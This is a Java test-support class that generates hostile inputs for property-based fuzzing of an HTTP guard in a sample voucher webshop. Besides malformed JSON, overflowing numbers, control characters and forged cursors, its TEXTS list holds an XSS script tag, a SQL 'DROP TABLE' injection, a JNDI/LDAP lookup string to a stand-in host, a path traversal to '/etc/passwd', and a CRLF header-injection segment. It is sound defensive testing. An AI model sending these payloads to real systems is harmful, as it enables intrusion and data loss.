// SPDX-License-Identifier: Apache-2.0
package dev.vouchers.sample.webshop.guard;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.quicktheories.api.Pair;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Hostile values for the HTTP guard (L-4): boundaries, overflowing numbers, wrong JSON types,
 * control characters, unpaired surrogates, huge strings, bad percent-encoding, tampered and
 * forged ids and cursors. Every list starts with a harmless value, where QuickTheories shrinks
 * to.
 */
final class Hostile {
  private Hostile() {}

  /** Texts, JSON-escaped by {@link #quote} (so unpaired surrogates survive as escapes). */
  static final List<String> TEXTS = List.of("x", "", " ", "\t", "a\u0000b", "\u0000",
      "\u001b[31mred", "bell\u0007", "a\r\nb", "line\n", "\u0085", "\u2028", "\u202e",
      "\ud800", "x\udfffy", "\udbff\udfff", "\uffff", "é", "😀", "Zürich", "x".repeat(65),
      "x".repeat(201), "x".repeat(2_001), "x".repeat(40_000), "<script>alert(1)</script>",
      "'; DROP TABLE vouchers_orders; --", "${jndi:ldap://x.example/a}", "../../etc/passwd",
      "%00", "%zz", "{foo}", "null", "0", "-1", "1E+999999");

  /** E-mail addresses, some of them valid. */
  static final List<String> EMAILS = List.of("kunde@example.ch", "a\u0001b@x.example",
      "a\u007fb@x.example", "ab@x.example\n", "a\u0085b@x.example", "a@b\u2028.ch",
      "jürg@müller.ch", "@", "a@", "a@b", "\"a b\"@x.example", "x".repeat(300) + "@x.example",
      "a@" + "x".repeat(300) + ".example", "a@x.example, b@y.example", "a@[127.0.0.1]");

  /** Numbers and non-numbers, as JSON text. */
  static final List<String> NUMBERS = List.of("1", "0", "-1", "2", "5", "1000", "1001",
      "2147483647", "2147483648", "-2147483648", "-2147483649", "9223372036854775807",
      "9223372036854775808", "99999999999999999999999999999", "1.5", "1.0", "-0", "0.0001",
      "1e3", "1e400", "-1e400", "1E-999999", "\"1\"", "\"1.5\"", "true", "null");

  /** Decimal amounts and percentages, as JSON text. */
  static final List<String> DECIMALS = List.of("\"12.5\"", "10", "0", "-1", "100", "100.0001",
      "\"100.00001\"", "0.00001", "1E+999999", "\"1E+999999\"", "\"1E-999999\"", "1e-400",
      "\"NaN\"", "\"Infinity\"", "\"0x10\"", "\"1,5\"", "\"\"", "true", "[]");

  /** ISO-8601 durations and instants. */
  static final List<String> TIMES = List.of("PT72H", "P1D", "PT0S", "-PT1H", "PT9999999999999H",
      "P106751991167300D", "PT2562047788015215H30M8S", "P1Y", "P-1D", "x",
      "2030-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "+1000000000-12-31T23:59:59.999999999Z",
      "-1000000000-01-01T00:00:00Z", "2030-13-01T00:00:00Z", "2030-01-01", "0");

  /** JSON values of every type, for members of another type. */
  static final List<String> ANY_JSON = List.of("null", "true", "false", "0", "-1", "1.5",
      "1e400", "\"\"", "\"x\"", "[]", "[1]", "[\"x\"]", "{}", "{\"a\":1}",
      "\"" + "x".repeat(70_000) + "\"");

  /** Whole bodies that are not the JSON object an endpoint reads. */
  static final List<String> RAW_BODIES = List.of("", "{}", "{", "}", "[]", "null", "\"x\"",
      "1", "{\"a\":}", "{'a':1}", "{\"a\":1,}", "{\"a\":1} {\"b\":2}", "{\"a\":1}]",
      "[".repeat(5_000) + "]".repeat(5_000), "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000),
      "{\"a\":\"\\ud800\"}", "{\"a\":\"\\u0000\"}", "\u00ef\u00bb\u00bf{}", "{/*c*/}",
      "x".repeat(80_000));

  /** Path segments, percent-encoded as they go on the request line (some malformed). */
  static final List<String> SEGMENTS = List.of("x", "%20", "a%2Fb", "a%5Cb", "a%00b", "%zz",
      "%", "a%2", "%C0%AF", "%ED%A0%80", "%FF", "..", "%2e%2e", ".", "a;b=c", ";", "%3B",
      "x".repeat(65), "x".repeat(7_000), "%E2%80%A8", "%1B%5B31m", "%0D%0AX-Injected:%201",
      "%F0%9F%98%80", "%7Bfoo%7D", "null", "0", "-1", "9223372036854775808", "%EF%BF%BF",
      "%25", "%2525", "%C3%A4");

  /** Query parameter values, as they go on the request line. */
  static final List<String> QUERY_VALUES = List.of("1", "", "0", "-1", "25", "500", "501",
      "2147483648", "abc", "1.5", "%zz", "%%%", "%", "%00", "%C0%AF", "%ED%A0%80", "a%2Cb",
      "open,%20cancelled", ",,,", "VALID", "x".repeat(5_000), "%0D%0A", "%E2%80%A8",
      "2030-01-01T00:00:00Z", "+1000000000-12-31T23:59:59Z", "a&b", "a=b");

  /** Values of the {@code X-Demo-User} header, as sent (the first is no header at all). */
  static final List<String> USERS = List.of("anna", "bea", "alina", "andri", "sven", "petra",
      "gian", "", "mallory", "ANNA", " anna", "anna\u0000", "änna", "anna\u001b",
      "x".repeat(9_000));

  /** Content types of a request body. */
  static final List<String> CONTENT_TYPES = List.of("application/json", "application/json",
      "application/json", "application/json;charset=UTF-8", "application/problem+json",
      "text/plain", "application/x-www-form-urlencoded", "application/json;charset=UTF-16",
      "application/json;charset=nope", "", "*/*", "application/xml");

  /** Base64url of text, as a cursor is written. */
  static String base64url(String text) {
    return Base64.getUrlEncoder().withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  /** Forged cursors: well-formed base64url of what the library never issued. */
  static final List<String> FORGED_CURSORS = List.of(base64url("0:0:x"),
      base64url("-1:0:x"), base64url("1:-1:x"), base64url("1:1"), base64url("a:b:c"),
      base64url("1:1:" + "x".repeat(300)), base64url("1:1:\u0000"), "!!!", "====",
      base64url("1700000000:0:%zz"), base64url("-9223372036854775808:0:x"),
      base64url("-99999999999:0:x"), base64url("253402300800:0:x"),
      // issue 13 item 3: these two threw in the core (overflow in Cursor.decode, an instant no
      // database stores); the core refuses them now
      base64url("9223372036854775807:1000000000:x"), base64url("31556889864403199:999999999:x"),
      base64url("9223372036854775807:1000000000::x"),
      base64url("31556889864403199:999999999:10000+:x"));


  /** A JSON string of the text: every non-ASCII or control character as a {@code \\u} escape. */
  static String quote(String text) {
    StringBuilder json = new StringBuilder(text.length() + 2).append('"');
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == '"' || c == '\\') {
        json.append('\\').append(c);
      } else if (c < 0x20 || c >= 0x7f) {
        json.append(String.format("\\u%04x", (int) c));
      } else {
        json.append(c);
      }
    }
    return json.append('"').toString();
  }

  /** One of the values, the first one most often (a valid value), the others all alike. */
  static Gen<String> mostly(String valid, List<String> hostile) {
    return Generate.frequency(List.of(Pair.of(3, Generate.constant(valid)),
        Pair.of(2, Generate.pick(hostile))));
  }

  /** A JSON object member: its name and how its value is generated; empty leaves it out. */
  record Member(String name, Gen<Optional<String>> value) {}

  private static Gen<Optional<String>> member(String validJson, List<String> hostileJson) {
    return Generate.frequency(List.of(
        Pair.of(5, Generate.constant(Optional.of(validJson))),
        Pair.of(4, Generate.pick(hostileJson).map(Optional::of)),
        Pair.of(1, Generate.pick(ANY_JSON).map(Optional::of)),
        Pair.of(1, Generate.constant(Optional.empty()))));
  }

  /** A text member. */
  static Member text(String name, String valid) {
    return new Member(name, member(quote(valid), TEXTS.stream().map(Hostile::quote).toList()));
  }

  /** A text member from its own list of hostile texts (e-mail addresses, times, ids). */
  static Member text(String name, String valid, List<String> hostile) {
    List<String> all = new ArrayList<>(hostile);
    all.addAll(TEXTS);
    return new Member(name, member(quote(valid), all.stream().map(Hostile::quote).toList()));
  }

  /** A whole-number member. */
  static Member number(String name, int valid) {
    return new Member(name, member(Integer.toString(valid), NUMBERS));
  }

  /** A decimal member (a number or a decimal string). */
  static Member decimal(String name, String validJson) {
    return new Member(name, member(validJson, DECIMALS));
  }

  /** A boolean member. */
  static Member bool(String name, boolean valid) {
    return new Member(name, member(Boolean.toString(valid), List.of("\"true\"", "1", "0",
        "\"yes\"", "null")));
  }

  /** A member that is an array of texts. */
  static Member texts(String name, List<String> valid) {
    String validJson = "[" + String.join(",", valid.stream().map(Hostile::quote).toList()) + "]";
    List<String> hostile = new ArrayList<>(List.of("[]", "[null]", "[\"\"]", "[\"nope\"]",
        "[1]", "[[]]", "\"" + valid.get(0) + "\"", "[" + quote("\u0000") + "]"));
    hostile.add("[" + String.join(",", java.util.Collections.nCopies(2_000, quote(valid.get(0))))
        + "]");
    return new Member(name, member(validJson, hostile));
  }

  /** A member that is an object of the members. */
  static Member object(String name, Member... members) {
    return new Member(name, Generate.frequency(List.of(
        Pair.of(6, json(members).map(Optional::of)),
        Pair.of(1, Generate.pick(ANY_JSON).map(Optional::of)),
        Pair.of(1, Generate.constant(Optional.empty())))));
  }

  /** A member that is an array of one to three objects of the members. */
  static Member objects(String name, Member... members) {
    Gen<String> one = json(members);
    Gen<String> array = Generate.range(1, 3).flatMap(n -> in -> {
      List<String> items = new ArrayList<>();
      for (int i = 0; i < n; i++) {
        items.add(one.generate(in));
      }
      return "[" + String.join(",", items) + "]";
    });
    return new Member(name, Generate.frequency(List.of(
        Pair.of(6, array.map(Optional::of)),
        Pair.of(1, Generate.pick(List.of("[]", "[null]", "[1]", "{}", "null"))
            .map(Optional::of)),
        Pair.of(1, Generate.constant(Optional.empty())))));
  }

  /** A JSON object of the members, each valid or hostile, some left out. */
  static Gen<String> json(Member... members) {
    return in -> {
      List<String> parts = new ArrayList<>();
      for (Member member : members) {
        member.value().generate(in).ifPresent(v -> parts.add(quote(member.name()) + ":" + v));
      }
      return "{" + String.join(",", parts) + "}";
    };
  }

  /**
   * A request body: mostly an object of the members, sometimes with a member twice or an
   * unknown member, sometimes not the JSON the endpoint reads at all.
   */
  static Gen<String> body(Member... members) {
    Gen<String> object = json(members);
    return Generate.frequency(List.of(
        Pair.of(12, object),
        // every member twice
        Pair.of(1, object.map(o -> o.length() > 2
            ? "{" + o.substring(1, o.length() - 1) + "," + o.substring(1) : o)),
        Pair.of(1, object.map(o -> o.length() > 2 ? "{\"unknown\":1," + o.substring(1)
            : "{\"unknown\":1}")),
        Pair.of(2, Generate.pick(RAW_BODIES))));
  }
}
